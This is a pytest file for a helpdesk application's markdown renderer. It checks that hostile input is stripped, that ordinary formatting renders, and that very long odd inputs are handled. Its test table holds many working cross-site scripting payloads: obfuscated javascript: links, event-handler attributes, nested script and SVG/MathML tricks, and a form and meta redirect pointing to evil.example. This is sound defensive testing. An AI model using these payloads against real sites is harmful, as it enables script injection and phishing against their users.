"""Markdown becomes HTML that can do nothing but be read."""

from __future__ import annotations

import html5lib
import pytest

from helpdesk.adapters import markdown

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a word": "a<script src=//evil.example/x.js></script>b",
    "javascript": "[x](javascript:alert(1))",
    "javascript, disguised": "[x](JaVa&#115;cript:alert(1)) [z](<javascript&colon;alert(1)>)",
    "javascript by reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "vbscript": "[x](vbscript:msgbox)",
    "data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data picture": "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "autolink": "<javascript:alert(1)>",
    "onerror": '<img src=x onerror="alert(1)">',
    "a handler in a title": '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "picture from elsewhere": "![x](https://evil.example/pixel.gif)",
    "nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "nested link": "[![x](javascript:alert(1))](javascript:alert(2))",
    "svg": "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "style": "<style>body{display:none}</style><p style='position:fixed'>x</p>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "form": "<form action=https://evil.example><input name=a><button>go</button></form>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example>",
    "comment": "<!-- --><script>alert(1)</script> -->",
    "template": "<template><script>alert(1)</script></template>",
    "code": "```html\n<script>alert(1)</script>\n```",
    "info string": "```\"onload=alert(1) x='\nx\n```",
    "table": "| a |\n|-|\n| <img src=x onerror=alert(1)> |",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
}
ATTRIBUTES = {"href", "rel", "start", "title"}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_hostile_gets_through(text):
    tree = html5lib.parseFragment(markdown.render(text), treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in markdown.TAGS, element.tag
        assert set(element.attrib) <= ATTRIBUTES, element.attrib
        if "href" in element.attrib:
            assert element.get("href").split(":")[0] in (*markdown.SCHEMES,), element.get("href")
            assert element.get("rel") == "nofollow noopener"


def test_what_staff_writes_is_shown(app):
    html = markdown.render("# 一\n\n- 甲\n- 乙\n\n**重** 和 [网](https://a.example) [电](tel:12345)\n下一行")
    for piece in ("<h2>一</h2>", "<li>甲</li>", "<strong>重</strong>", 'href="https://a.example"', 'href="tel:12345"'):
        assert piece in html
    assert "<br>" in html
    assert "<h1" not in html


def test_a_very_odd_text_takes_no_time():
    for text in ("[" * 20000, "*" * 20000, "> " * 10000, "`" * 20000, "|" * 20000, "<" * 20000, "![](" * 5000):
        markdown.render(text)


def test_plain_words():
    assert markdown.plain("## 头\n\n1. **甲** <b>\n2. [乙](https://a.example)") == "头 甲 <b> 乙"
